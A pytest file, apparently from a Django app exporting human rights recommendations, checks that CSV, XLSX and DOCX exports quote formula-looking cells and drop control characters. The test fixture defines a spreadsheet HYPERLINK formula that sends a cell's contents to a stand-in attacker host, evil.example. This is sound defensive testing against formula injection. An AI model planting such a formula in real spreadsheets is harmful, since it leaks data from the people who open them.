"""Formula cells and control characters in every export (issue 11): quoted, stripped, never a failed file."""

from __future__ import annotations

import csv
import io

import docx
import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from aspiration.safe_cells import csv_cell, unquote_cell, xlsx_cell, xml_text
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
BELL = "Protect\x07 human rights defenders."


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_looking_text_is_quoted_and_reads_back(value):
    assert csv_cell(value) == "'" + value
    assert unquote_cell(csv_cell(value)) == value
    assert csv_cell(3) == 3 and csv_cell(-3) == -3  # numbers stay numbers


def test_control_characters_are_dropped_for_xml():
    assert xml_text(BELL) == "Protect human rights defenders."
    assert xlsx_cell("\x07=1+1") == "'=1+1"


@pytest.fixture
def risky(db):
    factories.recommendation(FORMULA, state="FRA")
    factories.recommendation(BELL, state="FRA", session=2)


def _csv_cells(path) -> set[str]:
    with open(path, encoding="utf-8") as handle:
        return {cell for row in csv.reader(handle) for cell in row}


def _xlsx_cells(source) -> list:
    book = openpyxl.load_workbook(source)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_the_export_command_quotes_formulas_and_drops_control_characters(risky, tmp_path):
    call_command("export", "--format", "csv", "--output", str(tmp_path / "out.csv"), stdout=io.StringIO())
    cells = _csv_cells(tmp_path / "out.csv")
    assert "'" + FORMULA in cells and FORMULA not in cells
    call_command("export", "--format", "xlsx", "--output", str(tmp_path / "out.xlsx"), stdout=io.StringIO())
    cells = _xlsx_cells(tmp_path / "out.xlsx")
    assert not [c for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "'" + FORMULA in values and "Protect human rights defenders." in values


@pytest.mark.parametrize("fmt", ["xlsx", "docx", "csv"])
def test_explore_exports_with_a_control_character_work(client, risky, fmt):
    response = client.get(reverse("export", args=[fmt]))
    assert response.status_code == 200
    if fmt == "xlsx":
        assert not [c for c in _xlsx_cells(io.BytesIO(response.content)) if c.data_type == "f"]
    if fmt == "docx":
        text = "\n".join(cell.text for table in docx.Document(io.BytesIO(response.content)).tables
                         for row in table.rows for cell in row.cells)
        assert "Protect human rights defenders." in text
